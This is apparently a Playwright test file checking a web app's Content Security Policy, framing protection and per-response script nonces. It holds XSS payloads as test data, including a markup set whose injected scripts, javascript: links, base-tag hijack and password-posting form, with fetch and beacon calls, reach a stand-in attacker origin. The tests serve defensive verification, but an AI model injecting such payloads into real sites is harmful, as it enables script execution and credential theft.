import type { Page } from '@playwright/test';
import {
  expect,
  expectServed,
  logInThroughPage,
  logOutThroughPage,
  type Person,
  registerThroughPage,
  test,
} from '../src/fixtures.ts';
import { openInjectingFront } from '../src/injecting-front.ts';
import { addNote, changeText, deleteNote, expectLive, secondTab } from '../src/notes-page.ts';
import { nameOf, sites } from '../src/site.ts';
import type { Stack } from '../src/stack.ts';
import { watchViolations } from '../src/violations.ts';
import { Visitor } from '../src/visitor.ts';

const publicPages = ['/', '/login', '/register', '/login?returnTo=%2Fprivate', '/login?error=invalid_credentials'];
const protectedPages = ['/private', '/private/sessions', '/private/notes', '/private/password', '/nowhere'];

for (const site of sites) {
  test.describe(`in ${nameOf(site)}`, () => {
    test.use({ stackOptions: { site } });
    test.setTimeout(240_000);

    test('no page asks for more than its policy grants', { tag: '@both-browsers' }, async ({
      context,
      page,
      person,
      stack,
    }) => {
      const violations = await watchViolations(context);
      for (const path of publicPages) await see(page, stack, path);
      await registerThroughPage(page, stack.webUrl, person);
      for (const path of protectedPages) await see(page, stack, path);
      await workWithNotes(page, stack);
      await page.getByRole('navigation').getByRole('link', { name: 'Private page' }).click();
      await page.waitForURL(`${stack.webUrl}/private`);
      await expect(page.getByRole('main')).toContainText(person.email);
      const changed = await changePassword(page, stack, person);
      await logOutThroughPage(page);
      await logInThroughPage(page, stack.webUrl, changed);
      await page.waitForURL(`${stack.webUrl}/private`);
      await expectServed(page, stack.webUrl, person);
      expect(violations.all).toEqual([]);
      expect(violations.complaints).toEqual([]);
    });

    test('no page asks for more while the API is down', async ({ context, page, person, stack }) => {
      const violations = await watchViolations(context);
      await registerThroughPage(page, stack.webUrl, person);
      await page.goto(`${stack.webUrl}/private/sessions`);
      await stack.api.stop();
      try {
        for (const path of [...publicPages, ...protectedPages]) await see(page, stack, path);
      } finally {
        await stack.api.start();
      }
      expect(violations.all).toEqual([]);
    });
  });
}

/** Opens a page and waits until its scripts have taken over: then whatever was refused has been. */
async function see(page: Page, { webUrl }: Stack, path: string): Promise<void> {
  await page.goto(webUrl + path);
  await expectAlive(page);
}

/** React marks the elements that its scripts have taken over. */
async function expectAlive(page: Page): Promise<void> {
  await page.waitForFunction(() => {
    const link = document.querySelector('header a, main a, main button');
    return link !== null && Object.keys(link).some((key) => key.startsWith('__react'));
  });
}

async function workWithNotes(page: Page, stack: Stack): Promise<void> {
  await page.goto(`${stack.webUrl}/private/notes`);
  await expectLive(page);
  const hostile = '<img src=x onerror="globalThis.ran = 1"><script>globalThis.ran = 1</script>';
  await addNote(page, 'Photo', hostile);
  await changeText(page, 'Photo', `${hostile} again`);
  const tab = await secondTab(page, stack);
  await expect(tab.getByText(`${hostile} again`)).toBeVisible();
  await tab.close();
  const file = { name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('well and good') };
  await page.getByLabel('Attach a file: Photo').setInputFiles(file);
  const arriving = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download what is attached to Photo' }).click();
  expect((await arriving).suggestedFilename()).toBe('a.txt');
  await deleteNote(page, 'Photo');
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
}

async function changePassword(page: Page, { webUrl }: Stack, person: Person): Promise<Person> {
  const password = `${person.password} and more`;
  await page.goto(`${webUrl}/private/password`);
  await page.getByLabel('Current password').fill(person.password);
  await page.getByLabel('New password').fill(password);
  await page.getByRole('button', { name: 'Change password' }).click();
  await expect(page.getByRole('main')).toContainText(/changed/i);
  return { ...person, password };
}

/** What somebody who could write into a page would write. Whatever runs says so. */
const markup = (evil: string): string => `
  <script>globalThis.ran = [...(globalThis.ran ?? []), 'an inline script'];</script>
  <script nonce="">globalThis.ran = [...(globalThis.ran ?? []), 'a script with an empty nonce'];</script>
  <script src="${evil}/parsed.js"></script>
  <script type="module" src="${evil}/module.js"></script>
  <img id="broken" src="/nothing.png" onerror="globalThis.ran = [...(globalThis.ran ?? []), 'a handler']">
  <img src="${evil}/pixel.png">
  <a id="link" href="javascript:globalThis.ran = ['a link']">a link</a>
  <style>main { display: none !important }</style>
  <p id="styled" style="position: fixed">styled</p>
  <link rel="stylesheet" href="${evil}/style.css">
  <base href="${evil}/">
  <iframe src="${evil}/frame"></iframe>
  <object data="${evil}/object"></object>
  <form id="stealing" method="post" action="${evil}/password"><input name="password" value="secret"></form>
  <form id="rerouted" method="post" action="/api/logout"><button formaction="${evil}/formaction">go</button></form>`;

test('what is put into a page does not run, load or send', { tag: '@both-browsers' }, async ({
  context,
  page,
  stack,
}) => {
  const front = await openInjectingFront(stack.webLoopbackUrl, markup);
  try {
    const violations = await watchViolations(context);
    await page.goto(`${front.origin}/login`);
    await expectAlive(page);
    await expect(page.getByLabel('Password')).toBeVisible();
    expect(await page.locator('#styled').evaluate((element) => getComputedStyle(element).position)).toBe('static');
    // From here on no locator: Playwright waits for the navigations that are refused.
    await page.evaluate(() => document.querySelector<HTMLElement>('#link')?.click());
    await page.evaluate(() => {
      try {
        document.querySelector<HTMLFormElement>('#stealing')?.submit();
      } catch {
        // Firefox throws where Chromium does nothing
      }
    });
    await page.evaluate(() => document.querySelector<HTMLElement>('#rerouted button')?.click());
    await page.evaluate(async (evil) => {
      await fetch(`${evil}/fetched`).catch(() => undefined);
      const events = new EventSource(`${evil}/events`);
      events.addEventListener('error', () => events.close());
      navigator.sendBeacon(`${evil}/beacon`);
    }, front.evilOrigin);
    const directives = () => [...new Set(violations.all.map((violation) => violation.split(' ', 1).join('')))];
    await expect
      .poll(() => directives())
      .toEqual(
        expect.arrayContaining(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src']),
      );
    expect(directives().filter((name) => name.startsWith('script-src'))).not.toEqual([]);
    expect(directives().filter((name) => name.startsWith('style-src'))).not.toEqual([]);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
    expect(await page.evaluate(() => document.baseURI)).toBe(`${front.origin}/login`);
    expect(front.stolen).toEqual([]);
    expect(page.url()).toBe(`${front.origin}/login`);
  } finally {
    await front.close();
  }
});

test('no site can put a page of ours into a frame', { tag: '@both-browsers' }, async ({ page, stack }) => {
  const framing = await openInjectingFront(stack.webLoopbackUrl, () => '');
  try {
    await page.goto(`${framing.evilOrigin}/`);
    await page.evaluate(async (url) => {
      const frame = document.createElement('iframe');
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      frame.src = `${url}/login`;
      document.body.append(frame);
      await loaded;
    }, stack.webUrl);
    await expect(page.frameLocator('iframe').getByLabel('Password')).toHaveCount(0);
  } finally {
    await framing.close();
  }
});

const pagesOfAnybody = ['/', '/login', '/register', '/login?error=invalid_credentials'];

test('every script of a page has the nonce of its answer, a new one each time', async ({ stack }) => {
  const visitor = new Visitor();
  await visitor.register(stack.webUrl, `nonce-${Date.now()}@example.com`);
  const nonces = new Set<string>();
  const pages = [
    ...pagesOfAnybody.map((path) => [path, ''] as const),
    ...protectedPages.map((path) => [path, visitor.cookieHeader] as const),
  ];
  for (const [path, cookie] of [...pages, ...pages]) {
    const { html, nonce, policy } = await pageOf(stack, path, { cookie });
    nonces.add(nonce);
    expect(Buffer.from(nonce, 'base64').byteLength, path).toBe(16);
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length, path).toBeGreaterThan(2);
    expect(
      scripts.filter((script) => !script.includes(`nonce="${nonce}"`)),
      path,
    ).toEqual([]);
    expect(html, path).not.toMatch(/<style\b|\sstyle="|\son\w+="|javascript:/);
    expect(policy, path).not.toMatch(/unsafe|\*/);
  }
  expect(nonces.size).toBe(pages.length * 2);
});

test('no client chooses the nonce of a page', async ({ stack }) => {
  const chosen = "script-src 'nonce-Y2hvc2VuY2hvc2VuY2hvcw=='";
  const attempts: readonly Record<string, string>[] = [
    { 'content-security-policy': chosen },
    { 'content-security-policy-report-only': chosen },
    { 'x-nonce': 'Y2hvc2VuY2hvc2VuY2hvcw==' },
    {
      'x-middleware-request-content-security-policy': chosen,
      'x-middleware-override-headers': 'content-security-policy',
    },
  ];
  for (const headers of attempts) {
    for (const path of [...pagesOfAnybody, '/_next/nothing', '/private']) {
      const response = await fetch(stack.webUrl + path, {
        headers: { accept: 'text/html', ...headers },
        redirect: 'manual',
      });
      const answer = (await response.text()) + JSON.stringify([...response.headers]);
      expect(answer, `${path} with ${Object.keys(headers).join(', ')}`).not.toContain('Y2hvc2Vu');
    }
  }
});

interface PageAnswer {
  readonly html: string;
  readonly nonce: string;
  readonly policy: string;
}

async function pageOf({ webUrl }: Stack, path: string, headers: Record<string, string>): Promise<PageAnswer> {
  const response = await fetch(webUrl + path, { headers: { accept: 'text/html', ...headers }, redirect: 'manual' });
  const policy = response.headers.get('content-security-policy') ?? '';
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
  return { html: await response.text(), nonce, policy };
}
